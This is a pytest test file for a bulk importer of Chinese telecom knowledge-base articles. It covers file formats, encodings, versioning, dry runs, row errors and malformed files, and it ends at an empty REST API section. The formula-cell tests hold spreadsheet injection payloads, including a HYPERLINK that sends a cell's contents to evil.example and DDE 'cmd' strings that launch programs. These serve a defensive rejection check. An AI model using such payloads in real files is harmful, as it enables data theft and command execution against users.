"""Bulk import: xlsx / CSV (UTF-8, GB18030) / JSONL, row-level errors, all or nothing."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterator, Sequence
from datetime import date, datetime
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from seci.accounts.models import Queue
from seci.audit.models import AuditEvent
from seci.core.config import get_settings
from seci.core.errors import PermissionDenied, SeciError
from seci.core.messages import describe_error, describe_problem
from seci.knowledge import articles as kb
from seci.knowledge.importing import ImportRejected, ImportReport, RowError, import_articles
from seci.knowledge.models import Article, ArticleVersion, Module, VersionQueue
from seci.knowledge.modules import find_by_path, module_names_by_id, path_label
from seci.knowledge.tabular import (
    COLUMNS,
    BadEncoding,
    EmptyFile,
    FileTooLarge,
    MissingColumns,
    NotASpreadsheet,
    TooManyRows,
    UnknownColumns,
    UnknownFormat,
)
from tests.conftest import csrf_of
from tests.factories import World, bearer, make_article, web_login

LIMIT = 5 * 1024 * 1024
CHINESE_HEADER = ["知识编号", "标题", "正文", "答复口径", "业务模块", "适用队列", "标签",
                  "相似问法", "可见范围", "生效日期", "失效日期"]


# --- file builders -----------------------------------------------------------------------


def record(code: str, **overrides: Any) -> dict[str, Any]:
    """One article as a spreadsheet row (lists joined with '|')."""
    values: dict[str, Any] = {
        "code": code,
        "title": f"国际漫游开通说明{code}",
        "body": "### 办理方式\n发送 KTMY 到 10086，资费见附表。",
        "customer_answer": "出国前发送 KTMY 到 10086 即可开通。",
        "module": "个人业务/资费套餐",
        "queues": "A|VIP",
        "tags": "漫游|国际",
        "similar_questions": "出国了手机还能用不|怎么开通漫游",
        "audience": "internal",
        "valid_from": "2026-01-01",
        "valid_to": "2026-12-31",
    }
    values.update(overrides)
    return values


def json_record(code: str, **overrides: Any) -> dict[str, Any]:
    """One article as a JSONL object (real lists, null dates allowed)."""
    values: dict[str, Any] = {
        "code": code,
        "title": f"宽带报修流程{code}",
        "body": "请先重启光猫。\n仍无法上网时登记报修。",
        "module": "家庭业务/宽带",
        "queues": ["B", "数据专席"],
        "tags": ["宽带", "报修"],
        "similar_questions": ["家里网断了怎么办", "宽带连不上"],
        "audience": "customer",
        "valid_from": "2026-03-01",
        "valid_to": None,
    }
    values.update(overrides)
    return values


def csv_bytes(records: Sequence[dict[str, Any]], *, header: Sequence[str] = COLUMNS,
              encoding: str = "utf-8", bom: bool = False, keys: Sequence[str] = COLUMNS,
              line_end: str = "\n") -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator=line_end)
    writer.writerow(header)
    for rec in records:
        writer.writerow([rec.get(k, "") for k in keys])
    data = buffer.getvalue().encode(encoding)
    return b"\xef\xbb\xbf" + data if bom else data


def xlsx_bytes(records: Sequence[dict[str, Any]], *, header: Sequence[str] = COLUMNS,
               keys: Sequence[str] = COLUMNS) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(list(header))
    for rec in records:
        sheet.append([rec.get(k) for k in keys])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def jsonl_bytes(objects: Sequence[dict[str, Any] | str]) -> bytes:
    lines = [o if isinstance(o, str) else json.dumps(o, ensure_ascii=False) for o in objects]
    return ("\n".join(lines) + "\n").encode("utf-8")


# --- helpers -----------------------------------------------------------------------------


def run_import(db: Session, world: World, data: bytes, filename: str, *,
               user: str = "manager", max_bytes: int = LIMIT, **options: Any) -> ImportReport:
    report = import_articles(db, data=data, filename=filename, actor=world[user],
                             max_bytes=max_bytes, **options)
    db.commit()
    return report


def rejected(db: Session, world: World, data: bytes, filename: str) -> ImportReport:
    with pytest.raises(ImportRejected) as caught:
        import_articles(db, data=data, filename=filename, actor=world["manager"],
                        max_bytes=LIMIT)
    db.rollback()
    return caught.value.report


def file_error(db: Session, world: World, data: bytes, filename: str,
               expected: type[SeciError], *, max_bytes: int = LIMIT) -> str:
    """The file-level error's Chinese message (the import must not get past it)."""
    with pytest.raises(expected) as caught:
        import_articles(db, data=data, filename=filename, actor=world["manager"],
                        max_bytes=max_bytes)
    db.rollback()
    message = describe_error(caught.value)
    assert "Traceback" not in message
    return message


def errors_at(report: ImportReport, row: int) -> dict[str, RowError]:
    return {e.column: e for e in report.errors if e.row == row}


def snapshot(db: Session) -> dict[str, int]:
    """Row counts of everything an import may write."""
    return {
        model.__name__: db.scalar(select(func.count()).select_from(model)) or 0
        for model in (Article, ArticleVersion, VersionQueue, Module, AuditEvent)
    }


def article_by_code(db: Session, code: str) -> Article:
    db.expire_all()
    article = db.scalar(select(Article).where(Article.code == code))
    assert article is not None, code
    return article


def queue_codes(db: Session, ids: list[int]) -> list[str]:
    codes = {q.id: q.code for q in db.scalars(select(Queue))}
    return sorted(codes[i] for i in ids)


def module_path(db: Session, module_id: int) -> str:
    return path_label(module_names_by_id(db), module_id)


def assert_article(db: Session, code: str, expected: dict[str, Any]) -> Article:
    """The article is published (version 1 from the import) with exactly these fields."""
    article = article_by_code(db, code)
    assert article.status == "published"
    live = article.live_version
    assert live is not None and live.source == "import"
    for source in (article, live):
        actual = {
            "title": source.title, "body": source.body,
            "customer_answer": source.customer_answer,
            "module": module_path(db, source.module_id),
            "queues": queue_codes(db, source.queue_ids), "tags": source.tags,
            "similar_questions": source.similar_questions, "audience": source.audience,
            "valid_from": source.valid_from, "valid_to": source.valid_to,
        }
        assert actual == expected
    links = db.scalars(select(VersionQueue.queue_id).where(VersionQueue.version_id == live.id))
    assert queue_codes(db, list(links)) == expected["queues"]
    return article


EXPECTED_RECORD = {
    "title": "国际漫游开通说明R-1", "body": "### 办理方式\n发送 KTMY 到 10086，资费见附表。",
    "customer_answer": "出国前发送 KTMY 到 10086 即可开通。",
    "module": "个人业务/资费套餐", "queues": ["A", "VIP"], "tags": ["漫游", "国际"],
    "similar_questions": ["出国了手机还能用不", "怎么开通漫游"], "audience": "internal",
    "valid_from": date(2026, 1, 1), "valid_to": date(2026, 12, 31),
}


# --- happy paths, one per format ---------------------------------------------------------


def test_xlsx_built_with_openpyxl_imports_every_column(db: Session, world: World) -> None:
    data = xlsx_bytes([
        record("R-1"),
        # Excel stores dates and numbers as typed cells, not text
        record("10086", title="话费查询", valid_from=datetime(2026, 2, 1), valid_to=None,
               queues="话费专席", tags=None, similar_questions=None, audience=None),
    ])
    report = run_import(db, world, data, "知识.xlsx")
    assert (report.format, report.rows, len(report.created)) == ("xlsx", 2, 2)
    assert report.ok and report.errors == []
    assert_article(db, "R-1", EXPECTED_RECORD)
    assert_article(db, "10086", {
        "title": "话费查询", "body": EXPECTED_RECORD["body"],
        "customer_answer": "出国前发送 KTMY 到 10086 即可开通。", "module": "个人业务/资费套餐",
        "queues": ["话费专席"], "tags": [], "similar_questions": [], "audience": "customer",
        "valid_from": date(2026, 2, 1), "valid_to": None,
    })


@pytest.mark.parametrize("bom", [True, False], ids=["with-bom", "without-bom"])
def test_csv_utf8_imports_with_and_without_bom(db: Session, world: World, bom: bool) -> None:
    data = csv_bytes([record("R-1")], bom=bom)
    assert data.startswith(b"\xef\xbb\xbf") is bom
    report = run_import(db, world, data, "articles.csv")
    assert (report.format, report.created) == ("csv", ["R-1"])
    assert_article(db, "R-1", EXPECTED_RECORD)


@pytest.mark.parametrize("encoding", ["gb18030", "gbk"])
def test_csv_saved_by_chinese_excel_in_gb18030_imports(db: Session, world: World,
                                                        encoding: str) -> None:
    # Chinese Excel's "CSV (逗号分隔)" writes GBK/GB18030 with CRLF line ends
    data = csv_bytes([record("R-1")], header=CHINESE_HEADER, encoding=encoding,
                     line_end="\r\n")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    report = run_import(db, world, data, "知识导出.csv")
    assert report.created == ["R-1"]
    assert_article(db, "R-1", EXPECTED_RECORD)


def test_jsonl_imports_lists_and_null_dates(db: Session, world: World) -> None:
    data = jsonl_bytes([json_record("J-1"), "", json_record("J-2", valid_from=None)])
    report = run_import(db, world, data, "articles.jsonl")
    assert (report.format, report.rows, report.created) == ("jsonl", 2, ["J-1", "J-2"])
    expected = {
        "title": "宽带报修流程J-1", "body": "请先重启光猫。\n仍无法上网时登记报修。",
        "customer_answer": "",  # the column is optional
        "module": "家庭业务/宽带", "queues": ["B", "数据专席"], "tags": ["宽带", "报修"],
        "similar_questions": ["家里网断了怎么办", "宽带连不上"], "audience": "customer",
        "valid_from": date(2026, 3, 1), "valid_to": None,
    }
    assert_article(db, "J-1", expected)
    assert_article(db, "J-2", expected | {"title": "宽带报修流程J-2", "valid_from": None})


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_chinese_column_headers_are_understood(db: Session, world: World, fmt: str) -> None:
    builder = csv_bytes if fmt == "csv" else xlsx_bytes
    data = builder([record("R-1")], header=CHINESE_HEADER)
    report = run_import(db, world, data, f"知识.{fmt}")
    assert report.created == ["R-1"]
    assert_article(db, "R-1", EXPECTED_RECORD)


def test_alternative_chinese_headers_and_list_separators(db: Session, world: World) -> None:
    header = ["编号", "知识标题", "内容", "客户答复", "模块", "队列", "标签", "相似问题",
              "受众", "生效", "失效"]
    data = csv_bytes([record("R-1", queues="A，VIP", tags="漫游、国际",
                             similar_questions="出国了手机还能用不；怎么开通漫游",
                             audience="内部", valid_from="2026/1/1",
                             valid_to="2026.12.31")], header=header)
    run_import(db, world, data, "a.csv")
    assert_article(db, "R-1", EXPECTED_RECORD)


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "jsonl"])
def test_file_without_audience_column_is_customer_visible(db: Session, world: World,
                                                          fmt: str) -> None:
    keys = [c for c in COLUMNS if c != "audience"]
    rec = record("R-1")
    if fmt == "csv":
        data = csv_bytes([rec], header=keys, keys=keys)
    elif fmt == "xlsx":
        data = xlsx_bytes([rec], header=keys, keys=keys)
    else:
        data = jsonl_bytes([{k: v for k, v in json_record("R-1").items() if k != "audience"}])
    run_import(db, world, data, f"a.{fmt}")
    article = article_by_code(db, "R-1")
    assert article.audience == "customer"
    assert article.live_version is not None and article.live_version.audience == "customer"


def test_empty_audience_cell_is_customer_and_spelled_out_values_are_understood(
        db: Session, world: World) -> None:
    data = csv_bytes([record("R-1", audience=""), record("R-2", audience="客户可见"),
                      record("R-3", audience="仅内部"), record("R-4", audience="Internal")])
    run_import(db, world, data, "a.csv")
    audiences = [article_by_code(db, c).audience for c in ("R-1", "R-2", "R-3", "R-4")]
    assert audiences == ["customer", "customer", "internal", "internal"]


def test_new_module_paths_are_created_under_existing_ones(db: Session, world: World) -> None:
    data = csv_bytes([
        record("R-1", module="家庭业务/宽带/故障报修"),
        record("R-2", module=" 政企业务 / 专线 "),
        record("R-3", module="政企业务/专线"),
    ])
    report = run_import(db, world, data, "a.csv")
    assert report.modules_created == ["家庭业务/宽带/故障报修", "政企业务/专线"]
    repair = find_by_path(db, path="家庭业务/宽带/故障报修")
    assert repair is not None and repair.parent_id == world.modules["宽带"].id
    line = find_by_path(db, path="政企业务/专线")
    assert line is not None
    assert article_by_code(db, "R-2").module_id == line.id
    assert article_by_code(db, "R-3").module_id == line.id
    assert module_path(db, article_by_code(db, "R-1").module_id) == "家庭业务/宽带/故障报修"


def test_import_is_audited_once_with_counts(db: Session, world: World) -> None:
    run_import(db, world, csv_bytes([record("R-1"), record("R-2")]), "a.csv")
    events = db.scalars(select(AuditEvent).where(AuditEvent.action == "kb.import")).all()
    assert len(events) == 1
    assert events[0].actor_id == world["manager"].id
    assert events[0].after is not None and events[0].after["created"] == ["R-1", "R-2"]


# --- re-import: new versions -------------------------------------------------------------


def test_reimporting_changed_codes_publishes_version_2(db: Session, world: World) -> None:
    run_import(db, world, csv_bytes([record("R-1"), record("R-2")]), "a.csv")
    before = snapshot(db)
    report = run_import(db, world, csv_bytes([
        record("R-1", body="发送 KTMY 到 10086，日租 25 元。", queues="A"),
        record("R-2"),
    ]), "a.csv")
    assert (report.updated, report.unchanged, report.created) == (["R-1"], ["R-2"], [])
    article = article_by_code(db, "R-1")
    assert article.latest_version_no == 2
    assert article.live_version is not None and article.live_version.version_no == 2
    assert article.body == article.live_version.body == "发送 KTMY 到 10086，日租 25 元。"
    assert queue_codes(db, article.live_version.queue_ids) == ["A"]
    versions = db.scalars(select(ArticleVersion).where(ArticleVersion.article_id == article.id)
                          .order_by(ArticleVersion.version_no)).all()
    assert [v.version_no for v in versions] == [1, 2]
    assert versions[0].body == EXPECTED_RECORD["body"]  # version 1 kept as it was
    assert snapshot(db)["ArticleVersion"] == before["ArticleVersion"] + 1
    assert article_by_code(db, "R-2").latest_version_no == 1


def test_reimporting_unchanged_content_creates_no_version(db: Session, world: World) -> None:
    data = xlsx_bytes([record("R-1"), record("R-2", audience=None, valid_to=None)])
    run_import(db, world, data, "a.xlsx")
    before = snapshot(db)
    report = run_import(db, world, data, "a.xlsx")
    assert (report.created, report.updated, report.unchanged) == ([], [], ["R-1", "R-2"])
    after = snapshot(db)
    assert after["ArticleVersion"] == before["ArticleVersion"]
    assert after["Article"] == before["Article"]
    assert article_by_code(db, "R-1").latest_version_no == 1


def test_reimport_updates_an_article_made_in_the_editor(db: Session, world: World) -> None:
    article = make_article(db, world, code="KB-7", title="漫游资费")
    report = run_import(db, world, csv_bytes([record("KB-7", title="漫游资费（2026版）")]),
                        "a.csv")
    assert report.updated == ["KB-7"]
    current = kb.get_article(db, article_id=article.id)
    assert current.title == "漫游资费（2026版）"
    assert current.live_version is not None and current.live_version.version_no == 2


def test_import_refuses_to_overwrite_a_pending_revision(db: Session, world: World) -> None:
    draft = make_article(db, world, code="KB-8", reviewer=None)
    report = rejected(db, world, csv_bytes([record("KB-8")]), "a.csv")
    assert [(e.row, e.column, e.code, e.value) for e in report.errors] == [
        (2, "code", "pending_revision", "KB-8")]
    assert "有尚未发布的修订" in describe_problem(report.errors[0].as_dict())
    assert kb.get_article(db, article_id=draft.id).latest_version_no == 0


def test_import_as_draft_leaves_the_live_version_alone(db: Session, world: World) -> None:
    run_import(db, world, csv_bytes([record("R-1")]), "a.csv")
    before = snapshot(db)
    report = run_import(db, world, csv_bytes([record("R-1", title="待审核的新标题"),
                                              record("R-2")]), "a.csv", as_draft=True)
    assert (report.created, report.updated) == (["R-2"], ["R-1"])
    assert snapshot(db)["ArticleVersion"] == before["ArticleVersion"]
    revised = article_by_code(db, "R-1")
    assert (revised.status, revised.title) == ("draft", "待审核的新标题")
    assert revised.live_version is not None
    assert revised.live_version.title == "国际漫游开通说明R-1"
    new = article_by_code(db, "R-2")
    assert (new.status, new.live_version_id, new.latest_version_no) == ("draft", None, 0)


# --- dry run -----------------------------------------------------------------------------


def test_dry_run_writes_nothing_and_returns_counts(db: Session, world: World) -> None:
    run_import(db, world, csv_bytes([record("R-1"), record("R-2")]), "a.csv")
    before = snapshot(db)
    data = csv_bytes([record("R-1", title="新标题"), record("R-2"),
                      record("R-3", module="新业务/5G")])
    report = run_import(db, world, data, "a.csv", dry_run=True)
    assert report.ok and report.dry_run
    assert (report.created, report.updated, report.unchanged) == (["R-3"], ["R-1"], ["R-2"])
    assert report.as_dict()["created"] == 1 and report.as_dict()["updated"] == 1
    assert report.modules_created == ["新业务/5G"]
    assert snapshot(db) == before
    assert find_by_path(db, path="新业务/5G") is None
    assert article_by_code(db, "R-1").title == "国际漫游开通说明R-1"


def test_dry_run_with_bad_rows_reports_them_without_raising(db: Session,
                                                            world: World) -> None:
    before = snapshot(db)
    report = run_import(db, world, csv_bytes([record("R-1"), record("R-2", title="")]),
                        "a.csv", dry_run=True)
    assert not report.ok and report.error_count == 1
    assert [(e.row, e.column, e.code) for e in report.errors] == [(3, "title", "required")]
    assert snapshot(db) == before


# --- row errors --------------------------------------------------------------------------


def test_missing_title_is_reported_with_row_column_and_chinese_message(
        db: Session, world: World) -> None:
    report = rejected(db, world, csv_bytes([record("R-1"), record("R-2", title="  ")]),
                      "a.csv")
    assert report.error_count == 1
    error = report.errors[0]
    assert (error.row, error.column, error.code) == (3, "title", "required")
    assert describe_problem(error.as_dict()) == "此项为必填项。"


def test_unknown_queue_is_reported_with_its_value(db: Session, world: World) -> None:
    report = rejected(db, world, csv_bytes([record("R-1", queues="A|Z9专席")]), "a.csv")
    error = errors_at(report, 2)["queues"]
    assert (error.code, error.value) == ("unknown_queue", "Z9专席")
    assert describe_problem(error.as_dict()) == "未知队列：Z9专席。"


@pytest.mark.parametrize("bad", ["明天", "20260101", "2026-1-1x"])
def test_bad_date_is_reported_with_its_value(db: Session, world: World, bad: str) -> None:
    report = rejected(db, world, csv_bytes([record("R-1", valid_from=bad)]), "a.csv")
    error = errors_at(report, 2)["valid_from"]
    assert (error.code, error.value) == ("bad_date", bad)
    assert describe_problem(error.as_dict()) == f"日期格式不正确：{bad}（请按 YYYY-MM-DD 填写）。"


@pytest.mark.parametrize("missing", ["2026/02/30", "2026-02-30", "2025-02-29", "2026-13-45"])
def test_a_day_the_calendar_lacks_is_not_called_a_format_error(db: Session, world: World,
                                                                missing: str) -> None:
    report = rejected(db, world, csv_bytes([record("R-1", valid_to=missing)]), "a.csv")
    error = errors_at(report, 2)["valid_to"]
    assert (error.row, error.code, error.value) == (2, "date_does_not_exist", missing)
    assert describe_problem(error.as_dict()) == f"日期 {missing} 不存在。"


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_import_template_imports_as_it_is(db: Session, world: World, client: TestClient,
                                              fmt: str) -> None:
    """The page's template: the importer's headers and one example row it accepts."""
    web_login(client, "manager")
    assert f"/kb/import/template?format={fmt}" in client.get("/kb/import").text
    response = client.get(f"/kb/import/template?format={fmt}")
    assert response.status_code == 200
    assert "attachment" in response.headers["content-disposition"]
    report = run_import(db, world, response.content, f"template.{fmt}", dry_run=True)
    assert (report.ok, report.rows) == (True, 1)


def test_the_import_template_is_for_importers_only(client: TestClient, world: World) -> None:
    web_login(client, "agent")
    assert client.get("/kb/import/template?format=csv").status_code == 403
    web_login(client, "manager")
    assert client.get("/kb/import/template?format=jsonl").status_code == 422


def test_valid_to_before_valid_from_is_reported(db: Session, world: World) -> None:
    report = rejected(db, world, csv_bytes([
        record("R-1"), record("R-2", valid_from="2026-06-01", valid_to="2026-05-31")]), "a.csv")
    assert [(e.row, e.column, e.code, e.value) for e in report.errors] == [
        (3, "valid_to", "before_valid_from", "2026-05-31")]
    assert describe_problem(report.errors[0].as_dict()) == "失效日期早于生效日期。"


def test_duplicate_code_in_the_file_is_reported_on_both_rows(db: Session,
                                                             world: World) -> None:
    report = rejected(db, world, csv_bytes([
        record("R-1"), record("R-2"), record("R-1", title="另一条")]), "a.csv")
    duplicates = [(e.row, e.column, e.value) for e in report.errors
                  if e.code == "duplicate_in_file"]
    assert duplicates == [(2, "code", "R-1"), (4, "code", "R-1")]
    messages = {e.row: describe_problem(e.as_dict()) for e in report.errors}
    assert "第 4 行" in messages[2] and "第 2 行" in messages[4]


def test_duplicate_code_is_reported_even_when_the_other_row_has_errors_too(
        db: Session, world: World) -> None:
    report = rejected(db, world, csv_bytes([record("R-1", title=""), record("R-1")]), "a.csv")
    assert sorted((e.row, e.code) for e in report.errors) == [
        (2, "duplicate_in_file"), (2, "required"), (3, "duplicate_in_file")]


def test_bad_json_lines_are_reported_with_their_line_numbers(db: Session,
                                                             world: World) -> None:
    data = jsonl_bytes([json_record("J-1"), '{"code": "J-2", "title": "缺右括号"',
                        "", "[1, 2]", json_record("J-5")])
    report = rejected(db, world, data, "a.jsonl")
    assert [(e.row, e.code, e.value) for e in report.errors] == [
        (2, "bad_json", '{"code": "J-2", "title": "缺右括号"'), (4, "bad_json", "[1, 2]")]
    assert describe_problem(report.errors[1].as_dict()) == "不是有效的 JSON 对象（[1, 2]）。"


def test_jsonl_values_of_the_wrong_type_are_reported(db: Session, world: World) -> None:
    data = jsonl_bytes([json_record("J-1", tags="宽带|报修", queues=[{"x": 1}],
                                    title=["不是文本"], valid_to=20261231, colour="红")])
    report = rejected(db, world, data, "a.jsonl")
    found = {(e.column, e.code) for e in report.errors}
    assert found == {("queues", "not_a_list"), ("title", "not_text"),
                     ("valid_to", "bad_date"), ("colour", "unknown_column")}


@pytest.mark.parametrize("formula", [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    ' =HYPERLINK("http://evil.example/","点我")',  # leading blanks: Excel ignores them
    "\t \t@SUM(1+1)*cmd|' /C calc'!A0",
])
def test_formula_cells_in_csv_are_rejected(db: Session, world: World, formula: str) -> None:
    report = rejected(db, world, csv_bytes([record("R-1", title=formula)]), "a.csv")
    error = errors_at(report, 2)["title"]
    assert error.code == "formula"
    assert error.value == formula[:80]
    assert describe_problem(error.as_dict()) == "该单元格包含表格公式，公式不会被导入。"


def test_formula_cells_in_xlsx_are_rejected(db: Session, world: World) -> None:
    data = xlsx_bytes([record("R-1", body='=HYPERLINK("http://evil.example","点我")'),
                       record("R-2", tags="@SUM(A1:A3)")])
    report = rejected(db, world, data, "a.xlsx")
    assert [(e.row, e.column, e.code) for e in report.errors] == [
        (2, "body", "formula"), (3, "tags", "formula")]
    assert report.errors[0].value.startswith("=HYPERLINK(")


def test_text_that_merely_starts_with_a_sign_is_not_a_formula(db: Session,
                                                              world: World) -> None:
    data = csv_bytes([record("R-1", title="-5元优惠说明", body="- APP(首页)办理\n- 第二步",
                             tags="+86|@客服")])
    run_import(db, world, data, "a.csv")
    article = article_by_code(db, "R-1")
    assert (article.title, article.tags) == ("-5元优惠说明", ["+86", "@客服"])


def test_every_problem_in_every_row_is_reported_at_once(db: Session, world: World) -> None:
    data = csv_bytes([
        record("R-1"),
        record("R-2", title="", queues="Q1", valid_from="明天"),
        record("R 3!", module=""),
        record("R-4", audience="所有人", valid_from="2026-02-01", valid_to="2026-01-01"),
    ])
    report = rejected(db, world, data, "a.csv")
    assert [(e.row, e.column, e.code) for e in report.errors] == [
        (3, "title", "required"), (3, "queues", "unknown_queue"), (3, "valid_from", "bad_date"),
        (4, "code", "bad_code"), (4, "module", "required"),
        (5, "audience", "invalid_choice"), (5, "valid_to", "before_valid_from"),
    ]
    assert report.error_count == 7
    assert report.as_dict()["errors"][1] == {"row": 3, "column": "queues",
                                             "code": "unknown_queue", "value": "Q1"}
    assert all(describe_problem(e.as_dict()) != e.code for e in report.errors)


def test_too_long_module_name_is_a_row_error(db: Session, world: World) -> None:
    long_name = "超长模块名" * 20
    report = rejected(db, world, csv_bytes([record("R-1", module=f"新业务/{long_name}")]),
                      "a.csv")
    error = errors_at(report, 2)["module"]
    assert error.code == "too_long"
    assert "最多 80 个字符" in describe_problem(error.as_dict())


def test_editor_without_module_access_cannot_import(db: Session, world: World) -> None:
    with pytest.raises(PermissionDenied):
        import_articles(db, data=csv_bytes([record("R-1")]), filename="a.csv",
                        actor=world["editor"], max_bytes=LIMIT)


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "jsonl"])
def test_one_bad_row_among_good_rows_writes_nothing(db: Session, world: World,
                                                    fmt: str) -> None:
    run_import(db, world, csv_bytes([record("R-1")]), "seed.csv")
    before = snapshot(db)
    good = [record("R-1", title="改过的标题"), record("R-2", module="新业务/专线"),
            record("R-3")]
    bad = record("R-4", queues="NOPE")
    rows = [*good[:2], bad, good[2]]
    if fmt == "csv":
        data = csv_bytes(rows)
    elif fmt == "xlsx":
        data = xlsx_bytes(rows)
    else:
        data = jsonl_bytes([{**r, "queues": r["queues"].split("|")} for r in rows])
    report = rejected(db, world, data, f"a.{fmt}")
    assert [(e.row, e.column, e.value) for e in report.errors] == [
        (4 if fmt != "jsonl" else 3, "queues", "NOPE")]
    assert snapshot(db) == before
    assert find_by_path(db, path="新业务/专线") is None
    assert article_by_code(db, "R-1").title == "国际漫游开通说明R-1"


# --- malformed files ---------------------------------------------------------------------


def test_random_bytes_are_rejected_as_neither_utf8_nor_gb18030(db: Session,
                                                               world: World) -> None:
    data = bytes(range(0x80, 0x100)) * 4
    for codec in ("utf-8", "gb18030"):
        with pytest.raises(UnicodeDecodeError):
            data.decode(codec)
    message = file_error(db, world, data, "a.csv", BadEncoding)
    assert "既不是 UTF-8 也不是 GBK/GB18030" in message


def test_latin1_csv_is_rejected_as_wrong_encoding(db: Session, world: World) -> None:
    text = "code,title,module\nR-1,Crème brûlée à la carte ÿ,个人业务\n"
    data = text.encode("latin-1", errors="replace")
    message = file_error(db, world, data, "a.csv", BadEncoding)
    assert "编码" in message


@pytest.mark.parametrize("filename", ["a.csv", "a.jsonl"])
def test_binary_file_with_nul_bytes_is_rejected(db: Session, world: World,
                                                filename: str) -> None:
    data = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200)
    message = file_error(db, world, data, filename, BadEncoding)
    assert "既不是 UTF-8 也不是 GBK/GB18030" in message


def test_nul_bytes_far_into_a_csv_are_rejected_too(db: Session, world: World) -> None:
    data = csv_bytes([record(f"R-{i}") for i in range(300)]) + b"R-x,\x00\x00,m\n"
    assert len(data) > 65536
    file_error(db, world, data, "a.csv", BadEncoding)


@pytest.mark.parametrize("data", [
    csv_bytes([record("R-1")]),
    b"PK\x03\x04 not really a zip",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100),  # old .xls (OLE2) renamed to .xlsx
], ids=["csv-text", "broken-zip", "ole2-xls"])
def test_xlsx_that_is_not_a_workbook_is_rejected(db: Session, world: World,
                                                 data: bytes) -> None:
    message = file_error(db, world, data, "知识.xlsx", NotASpreadsheet)
    assert "不是 Excel .xlsx 工作簿" in message


def test_zip_that_is_not_a_workbook_is_rejected(db: Session, world: World) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "不是工作簿")
    file_error(db, world, buffer.getvalue(), "a.xlsx", NotASpreadsheet)


def test_xlsx_with_corrupt_sheet_xml_is_rejected_without_a_stack_trace(
        db: Session, world: World) -> None:
    original = xlsx_bytes([record("R-1")])
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(original)) as source, \
            zipfile.ZipFile(buffer, "w") as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                content = content[: len(content) // 2]
            target.writestr(item, content)
    file_error(db, world, buffer.getvalue(), "a.xlsx", NotASpreadsheet)


def test_too_large_file_is_rejected_before_reading(db: Session, world: World) -> None:
    data = csv_bytes([record(f"R-{i}") for i in range(20)])
    message = file_error(db, world, data, "a.csv", FileTooLarge, max_bytes=1000)
    assert "超过了" in message and "MB" in message
    assert snapshot(db)["Article"] == 0


@pytest.mark.parametrize("builder", [csv_bytes, xlsx_bytes])
def test_a_file_beyond_the_row_cap_is_refused_with_the_cap(
        db: Session, world: World, monkeypatch: pytest.MonkeyPatch,
        builder: Any) -> None:
    monkeypatch.setattr("seci.knowledge.tabular.MAX_IMPORT_ROWS", 3)
    data = builder([record(f"R-{i}") for i in range(4)])
    message = file_error(db, world, data, "a.csv" if builder is csv_bytes else "a.xlsx",
                         TooManyRows)
    assert "3" in message
    assert snapshot(db)["Article"] == 0
    import_articles(db, data=builder([record(f"R-{i}") for i in range(3)]),
                    filename="a.csv" if builder is csv_bytes else "a.xlsx",
                    actor=world["manager"], max_bytes=LIMIT)  # the cap itself is fine


@pytest.mark.parametrize(("filename", "data"), [
    ("a.csv", b""),
    ("a.csv", b"\xef\xbb\xbf"),
    ("a.csv", b"code,title,module\r\n"),
    ("a.csv", b"code,title,module\n,,\n\n"),
    ("a.jsonl", b""),
    ("a.jsonl", b"\n  \n"),
    ("a.xlsx", xlsx_bytes([])),
], ids=["csv-empty", "csv-bom-only", "csv-header-only", "csv-blank-rows", "jsonl-empty",
        "jsonl-blank", "xlsx-header-only"])
def test_empty_file_is_rejected(db: Session, world: World, filename: str,
                                data: bytes) -> None:
    assert file_error(db, world, data, filename, EmptyFile) == "文件中没有数据行。"


def test_xlsx_without_any_cells_is_rejected_as_empty(db: Session, world: World) -> None:
    buffer = io.BytesIO()
    Workbook().save(buffer)
    file_error(db, world, buffer.getvalue(), "a.xlsx", EmptyFile)


def test_unknown_and_missing_columns_are_rejected(db: Session, world: World) -> None:
    data = csv_bytes([{"code": "R-1", "title": "t"}], header=["code", "title", "颜色"],
                     keys=["code", "title", "module"])
    message = file_error(db, world, data, "a.csv", UnknownColumns)
    assert "颜色" in message
    data = csv_bytes([{"code": "R-1", "title": "t"}], header=["code", "title"],
                     keys=["code", "title"])
    assert "module" in file_error(db, world, data, "a.csv", MissingColumns)


@pytest.mark.parametrize("filename", ["知识.xls", "a.docx", "noextension"])
def test_unsupported_file_type_is_rejected(db: Session, world: World, filename: str) -> None:
    message = file_error(db, world, b"whatever", filename, UnknownFormat)
    assert ".xlsx、.csv 或 .jsonl" in message


def test_tab_separated_text_is_understood(db: Session, world: World) -> None:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter="\t")
    writer.writerow(COLUMNS)
    writer.writerow([record("R-1")[c] for c in COLUMNS])
    run_import(db, world, buffer.getvalue().encode(), "a.txt")
    assert_article(db, "R-1", EXPECTED_RECORD)


def test_csv_whose_bodies_hold_many_tabs_is_still_comma_separated(db: Session,
                                                                  world: World) -> None:
    body = "套餐\t月租\t流量\n" * 20
    data = csv_bytes([record("R-1", body=body)])
    run_import(db, world, data, "a.csv")
    assert article_by_code(db, "R-1").body == body.strip("\n")


def test_very_long_csv_cell_is_a_row_error_not_a_parser_crash(db: Session,
                                                              world: World) -> None:
    data = csv_bytes([record("R-1", body="长" * 200_000)])
    report = rejected(db, world, data, "a.csv")
    assert [(e.row, e.column, e.code) for e in report.errors] == [(2, "body", "too_long")]


# --- REST API ----------------------------------------------------------------------------
